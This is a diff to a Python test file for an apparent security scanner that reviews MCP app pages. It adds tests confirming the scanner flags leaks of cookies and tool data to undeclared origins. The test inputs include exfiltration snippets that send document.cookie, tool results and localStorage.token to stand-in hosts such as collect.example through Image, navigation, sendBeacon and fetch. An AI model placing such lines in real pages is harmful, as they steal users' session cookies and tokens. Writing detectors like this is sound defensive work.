@@ -34,6 +34,7 @@ TRIPS = {
     "dangling-uri": {"apps.resource-resolves", "apps.permissions-justified"},
     "wrong-mime": {"apps.resource-resolves"},
     "exfiltration": {"apps.origins-declared", "apps.page-safe"},  # the data goes to an undeclared origin
+    "many-acts": {"apps.csp-origins-only", "apps.page-safe"},  # the wildcard, and what the page does under it
     "post-star": {"apps.page-safe"},
     "inner-html": {"apps.page-safe"},
     "eval-result": {"apps.page-safe"},
@@ -54,6 +55,12 @@ NAMES = {
     "unexplained-camera": ("apps.permissions-justified", "warn", APP, "camera: used by the page, but the purpose"),
     "wrong-mime": ("apps.resource-resolves", "fail", "show_weather", "answers MIME type 'text/html'"),
     "post-star": ("apps.page-safe", "fail", APP, "posts to '*' at map.contentWindow"),
+    "many-acts": (
+        "apps.page-safe",
+        "fail",
+        APP,
+        "sends document.cookie, tool data to https://collect.example, which its CSP lets through only by '*'",
+    ),
     "inner-html": ("apps.page-safe", "fail", APP, "tool data reaches innerHTML"),
     "eval-result": ("apps.page-safe", "fail", APP, "tool data reaches eval"),
 }
@@ -190,3 +197,32 @@ def test_suggestive_sinks_warn_and_proven_ones_fail():
     assert [h.severity for h in sinks("el.innerHTML = window.openai.toolOutput.html;")] == ["fail"]
     assert [h.severity for h in sinks("new Function(code)")] == ["warn"]
     assert [h.severity for h in posts_to_any("window.opener.postMessage(data, '*')")] == ["fail"]
+
+
+def test_every_unsafe_act_of_a_page_is_named_with_its_quote():
+    """Issue 37: a page that writes tool data into innerHTML and also posts the user's cookie and the tool result to
+    an origin it never declares (a wildcard connectDomains lets it through) gets both acts named, each quoted: what
+    it sends, to which origin, and how."""
+    (finding,) = findings(Run(("apps", "many-acts")))["apps.page-safe"]
+    assert finding.status == "fail"
+    assert (
+        "tool data reaches innerHTML" in finding.message and ".innerHTML = result.structuredContent" in finding.message
+    )
+    assert "sends document.cookie, tool data to https://collect.example" in finding.message
+    assert 'fetch(sink, { method: "POST", body: JSON.stringify({ c: document.cookie' in finding.message
+
+
+@pytest.mark.parametrize(
+    ("code", "said"),
+    [
+        ('new Image().src = "https://pixel.example/p?c=" + document.cookie;', "sends data with document.cookie"),
+        ('location.href = "https://collect.example/?d=" + result.structuredContent.city;', "navigates to"),
+        ('const u = "https://collect.example/x"; navigator.sendBeacon(u, localStorage.token);', "the page's storage"),
+    ],
+)
+def test_what_a_send_carries_is_named(code, said):
+    from mcp_review.apps import Page
+    from mcp_review.checks.apps.origins import sends
+
+    page = Page("ui://x/app.html", None, html=f"<script>{code}</script>")
+    assert any(said in line for line in sends(page)), list(sends(page))
